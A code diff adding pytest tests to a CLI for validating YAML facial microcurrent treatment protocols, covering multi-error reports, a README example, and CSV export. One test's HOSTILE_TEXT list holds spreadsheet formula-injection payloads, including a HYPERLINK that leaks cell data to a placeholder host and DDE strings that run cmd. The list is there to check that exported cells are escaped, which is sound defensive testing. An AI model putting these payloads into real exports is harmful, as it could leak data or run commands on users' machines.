@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import math
+import shutil
 import subprocess
 import sys
 from pathlib import Path
 
 import pytest
+from ruamel.yaml import YAML
 
 from protocol_tools import load_protocol, protocol_json_schema, validate
 from protocol_tools._cli import main
@@ -42,6 +46,108 @@ def test_validate_reports_file_line_field_and_exits_1(capsys, folder: Path):
     code, out, _ = run(capsys, "validate", str(bad))
     assert code == 1
     assert f"{bad}:25:14 steps[2].seconds: must be more than 0 (got -30)" in out
+
+
+def three_mistakes() -> str:
+    """The template with three independent errors in three different steps."""
+    return (
+        template_text()
+        .replace("seconds: 75", "seconds: -30", 1)
+        .replace("zone: cheekbones", "zone: cheek bones", 1)
+        .replace("current_uA: 150", "current_uA: 1500", 1)
+    )
+
+
+def test_validate_lists_every_independent_error_of_a_file(capsys, folder: Path):
+    text = three_mistakes()
+    path = folder / "demo-lift.yaml"
+    path.write_text(text)
+    lines = text.splitlines()
+
+    def at(line_text: str, value: str) -> str:
+        line = lines.index(line_text)
+        return f"{path}:{line + 1}:{lines[line].index(value) + 1}"
+
+    code, out, _ = run(capsys, "validate", str(path))
+    assert code == 1
+    assert out.splitlines() == [
+        f"{at('    seconds: -30', '-30')} steps[2].seconds: must be more than 0 (got -30) "
+        "[error: not-positive]",
+        f"{at('  - zone: cheek bones', 'cheek')} steps[4].zone: unknown zone 'cheek bones'; "
+        "did you mean 'cheekbones'? [error: unknown-choice]",
+        f"{at('    current_uA: 1500', '1500')} steps[6].current_uA: 1500 µA is not "
+        "microcurrent (it must stay below 1000 µA) [error: not-microcurrent]",
+        "1 file checked: 3 errors, 0 warnings",
+    ]
+
+
+# The README's example file: a protocol whose right half is written one step per
+# line, with two mistakes (the README's validate example shows its output).
+README_LIFT_20 = """\
+# yaml-language-server: $schema=schema/protocol.schema.json
+format: 1
+id: lift-20
+name: Lift 20
+version: 1.0.0
+setting: clinic
+summary: A twenty-minute lift; the right half is written one step per line.
+defaults: {current_uA: 200, frequency_hz: 0.5}
+steps:
+  - {kind: prep, action: Cleanse the face and apply a thin layer of gel, seconds: 120}
+  - {zone: jawline, side: right, technique: glide, passes: 3, seconds: 120}
+  - {zone: cheekbones, side: right, technique: glide, passes: 3, seconds: 120}
+  - {zone: under-eyes, side: right, technique: glide, passes: 3, current_uA: 150, seconds:
+    -30}
+
+  # Client's left half. If the gel has dried on this side, mist it first:
+  # a dry probe drags and the current stops reaching the skin. Then do the
+  # same work as on the right, in the same order, so both halves get the
+  # same time.
+  - zone: jaw line
+    side: left
+    technique: glide
+    passes: 3
+    seconds: 120
+  - zone: cheekbones
+    side: left
+    technique: glide
+    passes: 3
+    seconds: 120
+  - zone: under-eyes
+    side: left
+    technique: glide
+    passes: 3
+    current_uA: 150
+    seconds: 120
+  - kind: closing
+    action: Remove the gel with a damp cloth and apply a hydrating serum
+    seconds: 120
+"""
+
+
+def readme_console(command: str) -> list[str]:
+    """What the README's console example shows ``command`` printing."""
+    lines = (ROOT / "README.md").read_text(encoding="utf-8").splitlines()
+    start = next(i for i, line in enumerate(lines) if line.startswith(f"$ {command} "))
+    shown = []
+    for line in lines[start + 1 :]:
+        if line.startswith(("$ ", "```")):
+            break
+        shown.append(line)
+    return shown
+
+
+def test_the_readme_validate_example_prints_what_the_readme_shows(
+    capsys, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    (tmp_path / "protocols").mkdir()
+    (tmp_path / "protocols" / "lift-20.yaml").write_text(README_LIFT_20, encoding="utf-8")
+    shutil.copy(ROOT / "protocols" / "express-10.yaml", tmp_path / "protocols")
+    monkeypatch.chdir(tmp_path)
+    code, out, _ = run(capsys, "validate", "protocols/")
+    assert code == 1
+    assert out.splitlines() == readme_console("protocol-tools validate protocols/")
+    assert len(out.splitlines()) == 3
 
 
 def test_warnings_pass_unless_strict(capsys, folder: Path):
@@ -106,6 +212,56 @@ def test_show_csv_and_json(capsys, folder: Path):
     code, out, _ = run(capsys, "show", str(folder / "demo-lift.yaml"), "--format", "json")
     rows = json.loads(out)
     assert rows[-1]["end_s"] == 14 * 60
+
+
+# Text a spreadsheet would run as a formula, each dangerous first character once,
+# and line breaks that would start a row of their own.
+HOSTILE_TEXT = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "fine\r=cmd|' /C calc'!A0",
+    "two\nlines",
+    "windows\r\n=1+1",
+]
+
+
+def hostile_protocol(folder: Path) -> Path:
+    data = YAML(typ="safe", pure=True).load(template_text())
+    steps = data["steps"]
+    treatments = [step for step in steps if "zone" in step]
+    actions = [step for step in steps if "action" in step]
+    for index, text in enumerate(HOSTILE_TEXT):
+        steps[index]["cue"] = text
+        treatments[index % len(treatments)]["direction"] = text
+        actions[index % len(actions)]["action"] = text
+    stream = io.StringIO()
+    YAML(typ="safe", pure=True).dump(data, stream)
+    path = folder / "demo-lift.yaml"
+    path.write_text(stream.getvalue(), encoding="utf-8")
+    return path
+
+
+def test_show_csv_never_lets_a_formula_or_a_line_break_into_a_cell(capsys, tmp_path: Path):
+    path = hostile_protocol(tmp_path)
+    protocol = load_protocol(path)
+    assert {step.cue for step in protocol.steps} >= set(HOSTILE_TEXT)
+    code, out, _ = run(capsys, "show", str(path), "--format", "csv")
+    assert code == 0
+    header, *rows = list(csv.reader(io.StringIO(out, newline="")))
+    assert len(rows) == len(protocol.steps)
+    assert [row[0] for row in rows] == [str(n) for n in range(1, len(protocol.steps) + 1)]
+    for row in [header, *rows]:
+        assert len(row) == len(header)
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+            assert not {"\n", "\r"} & set(cell), row
+    cues = [row[header.index("cue")] for row in rows]
+    assert cues[0] == "'" + HOSTILE_TEXT[0]  # kept as text, not dropped
+    assert cues[6] == "fine =cmd|' /C calc'!A0"
 
 
 def test_show_and_sheet_never_crash_on_huge_seconds(capsys, folder: Path):
